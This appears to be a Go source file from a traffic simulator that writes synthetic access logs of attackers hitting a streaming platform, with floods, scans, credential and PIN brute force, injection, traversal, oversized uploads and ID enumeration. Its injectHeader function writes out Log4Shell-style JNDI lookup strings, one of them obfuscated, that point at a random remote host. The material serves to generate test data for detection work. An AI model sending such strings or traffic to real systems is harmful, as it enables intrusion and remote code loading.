package main

import (
	"fmt"
	"math/rand/v2"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// loneKind is a kind of lone attacker and the variants it comes in; a
// site weighs the variants by its own taste (site.taste).
type loneKind struct {
	name     string
	variants []func(a *agent, from, to int64)
}

var loneKinds = []loneKind{
	{"flood", []func(*agent, int64, int64){floodAPI, floodManifest, floodSessions, floodSearch, floodSegment}},
	{"scan", []func(*agent, int64, int64){scanSweep, scanAPI, scanOrigin, scanQuiet}},
	{"bruteforce", []func(*agent, int64, int64){bruteLogin, brutePIN, bruteLoginSlow, bruteKeys, bruteGiftCodes}},
	{"injection", []func(*agent, int64, int64){injectSearch, injectParams, injectTraversal, injectInSession, injectHeader}},
	{"upload", []func(*agent, int64, int64){uploadAvatar, uploadAttachment, uploadStolenKey, uploadSubtitles}},
	{"enumeration", []func(*agent, int64, int64){enumTitles, enumProfiles, enumSeasons, enumEmails, enumSessions}},
}

// threats adds the day's lone attackers: a few of every kind, each in a
// variant drawn by the site's taste, starting anywhere in the first two
// thirds of the window.
func (w *world) threats(r *rand.Rand) {
	for _, k := range loneKinds {
		for range 1 + w.clients/1500 + r.IntN(2) {
			rr := Sub(r)
			a := w.intruder(rr, k.name)
			from := w.at(Uniform(rr, 0.02, 0.7))
			to := min(w.span, from+Sec(LogUniform(rr, 90, 900)))
			k.variants[Weighted(rr, w.s.taste[k.name])](a, from, to)
			a.flush()
		}
	}
}

// intruder registers an attacker at an address of the sort it rents or
// borrows: a cloud VPS, a residential proxy, a Tor exit, a home or phone
// on IPv6.
func (w *world) intruder(r *rand.Rand, kind string) *agent {
	var ip string
	switch x := r.Float64(); {
	case x < 0.4:
		ip = w.log.V4(r, hosting)
	case x < 0.65:
		ip = w.log.V4(r, w.s.reg.home)
	case x < 0.75:
		ip = w.log.V4(r, torExits)
	case x < 0.85:
		ip = w.log.V4(r, w.s.reg.mobile)
	default:
		ip = w.log.V6In(r, V6Net(r, w.s.reg.home6))
	}
	a := &agent{w: w, r: r, c: w.log.Client(ip, kind), hdr: int64(180 + r.IntN(700)), bw: LogUniform(r, 500, 8000), hostile: true}
	a.ua = Pick(r, toolUAs)
	a.player = a.ua
	return a
}

// disguise makes the attacker look like a person: a browser, or one of
// the platform's apps with its player, signed in to an account of its own.
func (a *agent) disguise(app bool) {
	r, s := a.r, a.w.s
	if app {
		p := &platforms[r.IntN(len(platforms))]
		a.ua, a.player = p.userAgents(r, s.brand, p.vers[0], s.reg.language)
	} else {
		a.ua = Pick(r, browserUAs)
		a.player = a.ua
	}
	a.hdr = int64(700 + r.IntN(900))
	a.user = "u" + Hex(r, 10)
}

// cover is what a disguised attacker sends to look busy: the home screen
// and a row or two.
func (a *agent) cover(t int64) int64 {
	api, r := a.w.s.api, a.r
	a.send(t, hit{m: "GET", path: api + "/home?profile=p" + Hex(r, 8), status: 200, resp: int64(30000 + r.IntN(90000)), cover: true})
	for range r.IntN(3) {
		t += Sec(LogNormal(r, 3, 0.7))
		a.send(t, hit{m: "GET", path: fmt.Sprintf("%s/rows/%s?offset=%d", api, Pick(r, a.w.cat.rows), 20*r.IntN(3)), status: 200, resp: int64(15000 + r.IntN(40000)), cover: true})
	}
	return t + Sec(LogNormal(r, 2, 0.6))
}

// steady calls f at the arrival times of a Poisson process of rate over
// [from, to), the first at from, at most limit times.
func steady(r *rand.Rand, from, to int64, rate float64, limit int, f func(t int64, i int)) {
	i := 0
	for t := from; t < to && i < limit; t += Sec(r.ExpFloat64() / rate) {
		f(t, i)
		i++
	}
}

// Floods.

func floodAPI(a *agent, from, to int64) {
	w, r := a.w, a.r
	ti := w.cat.popular(r)
	path := Pick(r, []string{
		w.s.api + "/home?profile=p" + Hex(r, 8),
		fmt.Sprintf("%s/titles/%d", w.s.api, ti.id),
		w.s.api + "/config?platform=android&version=7.41.0",
		"/",
	})
	steady(r, from, to, LogUniform(r, 8, 40), 6000, func(t int64, _ int) {
		a.get(t, path, 200, int64(20000+r.IntN(60000)))
	})
}

func floodManifest(a *agent, from, to int64) {
	w, r := a.w, a.r
	a.disguise(true)
	path := "/vod/" + asset(w.cat.popular(r), 0, 0) + "/hls/master.m3u8"
	if w.live != nil && Chance(r, 0.6) {
		path = "/live/" + w.live.id + "/master.m3u8"
	}
	steady(r, from, to, LogUniform(r, 5, 25), 6000, func(t int64, _ int) {
		a.send(t, hit{m: "GET", path: path, status: 200, resp: 1900, media: true})
	})
}

func floodSessions(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(true)
	from = a.cover(from)
	steady(r, from, to, LogUniform(r, 1.5, 6), 6000, func(t int64, _ int) {
		a.send(t, hit{m: "POST", path: api + "/playback/sessions", status: 201, body: 240, resp: 1600, ms: LogNormal(r, 60, 0.4)})
	})
}

func floodSearch(a *agent, from, _ int64) {
	w, r := a.w, a.r
	a.disguise(false)
	to := min(w.span, from+Sec(LogUniform(r, 300, 720)))
	steady(r, from, to, LogUniform(r, 1.2, 4), 4000, func(t int64, _ int) {
		q := query(r, Pick(r, w.cat.terms)+" "+Pick(r, nouns))
		a.get(t, fmt.Sprintf("%s/search?q=%s&limit=50&_=%d", w.s.api, q, w.log.Start().UnixMilli()+t/1e6), 200, int64(2000+r.IntN(20000)))
	})
}

func floodSegment(a *agent, from, to int64) {
	w, r := a.w, a.r
	if Chance(r, 0.5) {
		a.ua = Pick(r, rippers)
	}
	path := fmt.Sprintf("/vod/%s/hls/1080p/seg%d.m4s", asset(w.cat.popular(r), 0, 0), r.IntN(900))
	steady(r, from, to, LogUniform(r, 6, 30), 6000, func(t int64, _ int) {
		a.get(t, path, 200, segBytes(r, 5200, w.s.vodSeg))
	})
}

// Scans.

func scanSweep(a *agent, from, to int64) {
	r := a.r
	a.ua = Pick(r, scannerUAs)
	suffix := []string{"", "", "", ".bak", ".old", "~", ".swp", "/"}
	steady(r, from, to, LogUniform(r, 1.5, 12), 5000, func(t int64, _ int) {
		p := Pick(r, probes) + Pick(r, suffix)
		a.get(t, p, probeStatus(r, p), int64(150+r.IntN(400)))
	})
}

func scanAPI(a *agent, from, to int64) {
	w, r := a.w, a.r
	a.disguise(false)
	vers := []string{w.s.api, "/api/v1", "/api/v2", "/api/internal", "/api", "/v2", "/rest"}
	steady(r, from, to, LogUniform(r, 0.3, 2), 3000, func(t int64, _ int) {
		p := Pick(r, vers) + Pick(r, apiProbes)
		a.get(t, p, probeStatus(r, p), int64(120+r.IntN(300)))
	})
}

func scanOrigin(a *agent, from, to int64) {
	r := a.r
	steady(r, from, to, LogUniform(r, 0.8, 6), 4000, func(t int64, _ int) {
		var p string
		switch r.IntN(3) {
		case 0:
			p = fmt.Sprintf("/origin/vod/%s/hls/master.m3u8", Hex(r, 12))
		case 1:
			p = fmt.Sprintf("/vod/%s/hls/master.m3u8", Hex(r, 12))
		default:
			p = Pick(r, probes)
		}
		st := probeStatus(r, p)
		if p[:5] == "/vod/" {
			st = 404
		}
		a.get(t, p, st, int64(150+r.IntN(300)))
	})
}

func scanQuiet(a *agent, from, _ int64) {
	w, r := a.w, a.r
	a.disguise(false)
	to := min(w.span, from+Sec(LogUniform(r, 400, 900)))
	t := from
	for t < to {
		p := Pick(r, probes)
		a.get(t, p, probeStatus(r, p), int64(150+r.IntN(400)))
		t += Sec(Uniform(r, 5, 25))
		if Chance(r, 0.3) {
			t = a.cover(t)
		}
	}
}

// Brute force.

func bruteLogin(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	if Chance(r, 0.5) {
		a.ua = Pick(r, browserUAs)
	}
	steady(r, from, to, LogUniform(r, 0.3, 3), 3000, func(t int64, _ int) {
		a.send(t, hit{m: "POST", path: api + "/auth/signin", status: 401, body: int64(120 + r.IntN(40)), resp: 160, ms: LogNormal(r, 180, 0.3)})
	})
}

func brutePIN(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(true)
	pid := "p" + Hex(r, 8)
	t := a.cover(from - Sec(Uniform(r, 5, 30)))
	a.send(t, hit{m: "GET", path: api + "/profiles", status: 200, resp: 2400, cover: true})
	t = max(t, from)
	steady(r, t, to, LogUniform(r, 0.15, 1.2), 2500, func(t int64, i int) {
		a.send(t, hit{m: "POST", path: api + "/profiles/" + pid + "/pin", status: 403, body: 40, resp: 90})
	})
}

func bruteLoginSlow(a *agent, from, _ int64) {
	w, r := a.w, a.r
	a.disguise(false)
	a.user = ""
	to := min(w.span, from+Sec(LogUniform(r, 400, 900)))
	for t := from; t < to; t += Sec(Uniform(r, 15, 60)) {
		if Chance(r, 0.4) {
			a.send(t-Sec(Uniform(r, 2, 6)), hit{m: "GET", path: "/signin", status: 200, resp: 31000, cover: true})
		}
		a.send(t, hit{m: "POST", path: w.s.api + "/auth/signin", status: 401, body: int64(120 + r.IntN(40)), resp: 160, ms: LogNormal(r, 180, 0.3)})
	}
}

func bruteKeys(a *agent, from, to int64) {
	r := a.r
	steady(r, from, to, LogUniform(r, 0.5, 5), 4000, func(t int64, _ int) {
		a.send(t, hit{m: "GET", path: "/partner/v1/me", status: 401, resp: 120, key: "pk_live_" + Hex(r, 16) + Hex(r, 8)})
	})
}

func bruteGiftCodes(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(false)
	steady(r, from, to, LogUniform(r, 0.3, 2), 2500, func(t int64, _ int) {
		a.send(t, hit{m: "POST", path: api + "/gift/redeem", status: Pick(r, []int{404, 404, 404, 400}), body: 60, resp: 110})
	})
}

// Injection.

// payload draws an attack string and encodes it: tools send it nearly
// raw, a hand in a browser once or twice encoded.
func (a *agent) payload(raw, once float64) string {
	return EncodeQuery(a.r, Pick(a.r, payloads), rawQuery, raw, once)
}

// injectStatus is the answer to an injected request: rejected, ignored,
// or (rarely) a server error that tells the attacker it got through.
func injectStatus(r *rand.Rand) int { return Pick(r, []int{400, 400, 200, 200, 200, 403, 500}) }

func injectSearch(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	raw, once := 0.5, 0.85
	if Chance(r, 0.5) {
		a.disguise(false)
		raw, once = 0.1, 0.55
	}
	steady(r, from, to, LogUniform(r, 0.2, 3), 3000, func(t int64, _ int) {
		a.get(t, fmt.Sprintf("%s/search?q=%s&limit=24", api, a.payload(raw, once)), injectStatus(r), int64(300+r.IntN(3000)))
	})
}

func injectParams(a *agent, from, to int64) {
	w, r := a.w, a.r
	api := w.s.api
	steady(r, from, to, LogUniform(r, 0.2, 2.5), 3000, func(t int64, _ int) {
		p := a.payload(0.3, 0.8)
		var path string
		switch r.IntN(4) {
		case 0:
			path = fmt.Sprintf("%s/rows/%s?offset=%s", api, Pick(r, w.cat.rows), p)
		case 1:
			path = fmt.Sprintf("%s/titles/%d?lang=%s", api, w.cat.popular(r).id, p)
		case 2:
			path = fmt.Sprintf("/genre/%s?page=%s", Pick(r, w.cat.genres), p)
		default:
			path = fmt.Sprintf("%s/billing/plans?country=%s", api, p)
		}
		a.get(t, path, injectStatus(r), int64(200+r.IntN(2000)))
	})
}

func injectTraversal(a *agent, from, to int64) {
	w, r := a.w, a.r
	steady(r, from, to, LogUniform(r, 0.3, 4), 3000, func(t int64, _ int) {
		tail := Pick(r, traversals)
		var path string
		switch r.IntN(3) {
		case 0:
			path = "/vod/" + asset(w.cat.popular(r), 0, 0) + "/subs/" + tail
		case 1:
			path = "/art/" + tail
		default:
			path = "/assets/" + tail
		}
		a.get(t, path, Pick(r, []int{400, 404, 404, 403}), 160)
	})
}

func injectInSession(a *agent, from, _ int64) {
	w, r := a.w, a.r
	a.disguise(true)
	to := min(w.span, from+Sec(LogUniform(r, 300, 900)))
	for t := from; t < to; {
		a.get(t, fmt.Sprintf("%s/search?q=%s&profile=p%s&limit=24", w.s.api, a.payload(0.05, 0.5), Hex(r, 8)), injectStatus(r), int64(300+r.IntN(3000)))
		t += Sec(Uniform(r, 8, 40))
		if Chance(r, 0.5) {
			t = a.cover(t)
		}
	}
}

func injectHeader(a *agent, from, to int64) {
	w, r := a.w, a.r
	host := fmt.Sprintf("%d.%d.%d.%d", 40+r.IntN(150), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	steady(r, from, to, LogUniform(r, 0.1, 1.5), 2000, func(t int64, _ int) {
		jndi := Pick(r, []string{"${jndi:ldap://%s:1389/a}", "${${lower:j}ndi:${lower:l}dap://%s/x}", "${jndi:dns://%s/p}"})
		jndi = fmt.Sprintf(jndi, host)
		path := Pick(r, []string{"/", "/live", w.s.api + "/config?platform=" + EncodeQuery(r, jndi, rawQuery, 0.2, 0.9)})
		a.send(t, hit{m: "GET", path: path, status: Pick(r, []int{200, 400}), resp: 900, ua: jndi})
	})
}

// Uploads.

// stuff sends a body of 5 to 60 MB at the attacker's uplink.
func (a *agent) stuff(t int64, path string, limit int64) {
	r := a.r
	size := int64(LogUniform(r, 5e6, 60e6))
	st := 201
	if limit > 0 && size > limit {
		st = 413
	}
	a.send(t, hit{m: "POST", path: path, status: st, body: size, resp: 300, ms: float64(size) / LogUniform(r, 1000, 20000)})
}

func uploadAvatar(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(Chance(r, 0.5))
	pid := "p" + Hex(r, 8)
	from = a.cover(from)
	steady(r, from, to, LogUniform(r, 1, 6)/60, 200, func(t int64, _ int) {
		a.stuff(t, api+"/profiles/"+pid+"/avatar", 25e6)
	})
}

func uploadAttachment(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(false)
	tid := fmt.Sprint(400000 + r.IntN(99999))
	a.send(from, hit{m: "POST", path: api + "/support/tickets", status: 201, body: 1300, resp: 500})
	steady(r, from+Sec(Uniform(r, 5, 30)), to, LogUniform(r, 1, 5)/60, 200, func(t int64, _ int) {
		a.stuff(t, api+"/support/tickets/"+tid+"/attachments", 0)
	})
}

func uploadStolenKey(a *agent, from, to int64) {
	w, r := a.w, a.r
	p := Pick(r, w.fx.partners)
	a.key, a.ua = p.key, Pick(r, toolUAs)
	uid := Hex(r, 12)
	a.send(from, hit{m: "POST", path: "/partner/v1/uploads", status: 201, body: 420, resp: 380})
	steady(r, from+Sec(Uniform(r, 1, 5)), to, LogUniform(r, 1, 5)/60, 200, func(t int64, i int) {
		size := int64(LogUniform(r, 5e6, 60e6))
		a.send(t, hit{m: "PUT", path: fmt.Sprintf("/partner/v1/uploads/%s/parts/%d", uid, i+1), status: 200, body: size, resp: 96, ms: float64(size) / LogUniform(r, 2000, 20000)})
	})
}

func uploadSubtitles(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(Chance(r, 0.5))
	steady(r, from, to, LogUniform(r, 1, 5)/60, 200, func(t int64, _ int) {
		a.stuff(t, api+"/me/subtitles", 40e6)
	})
}

// Enumeration.

func enumTitles(a *agent, from, to int64) {
	w, r := a.w, a.r
	api := w.s.api
	id := w.cat.titles[r.IntN(len(w.cat.titles))].id
	if Chance(r, 0.4) {
		id = w.cat.maxID - r.IntN(200) // looking for what is announced but not out
	}
	steady(r, from, to, LogUniform(r, 0.5, 6), 5000, func(t int64, _ int) {
		id++
		st, size := 404, int64(140)
		if ti := w.cat.byID[id]; ti != nil {
			st, size = 200, int64(6000+r.IntN(16000))
			if !ti.released {
				st = 403
			}
		}
		a.get(t, fmt.Sprintf("%s/titles/%d", api, id), st, size)
	})
}

func enumProfiles(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(true)
	from = a.cover(from)
	steady(r, from, to, LogUniform(r, 0.2, 1.5), 2500, func(t int64, _ int) {
		a.get(t, api+"/profiles/p"+Hex(r, 8), Pick(r, []int{403, 404, 404}), 110)
	})
}

func enumSeasons(a *agent, from, to int64) {
	w, r := a.w, a.r
	a.disguise(false)
	i := r.IntN(len(w.cat.titles))
	season := 1
	steady(r, from, to, LogUniform(r, 0.4, 2.5), 3000, func(t int64, _ int) {
		ti := &w.cat.titles[i%len(w.cat.titles)]
		st, size := 404, int64(150)
		if season <= ti.seasons {
			st, size = 200, int64(5000+r.IntN(15000))
		}
		a.get(t, fmt.Sprintf("%s/titles/%d/seasons/%d", w.s.api, ti.id, season), st, size)
		season++
		if st == 404 || season > 8 {
			i, season = i+1, 1
		}
	})
}

func enumEmails(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	if Chance(r, 0.5) {
		a.ua = Pick(r, browserUAs)
	}
	steady(r, from, to, LogUniform(r, 0.5, 4), 4000, func(t int64, _ int) {
		a.send(t, hit{m: "POST", path: api + "/auth/check-email", status: 200, body: int64(40 + r.IntN(30)), resp: 40})
	})
}

func enumSessions(a *agent, from, to int64) {
	api, r := a.w.s.api, a.r
	a.disguise(true)
	steady(r, from, to, LogUniform(r, 0.5, 4), 4000, func(t int64, _ int) {
		a.get(t, api+"/playback/sessions/"+Hex(r, 16), 404, 120)
	})
}
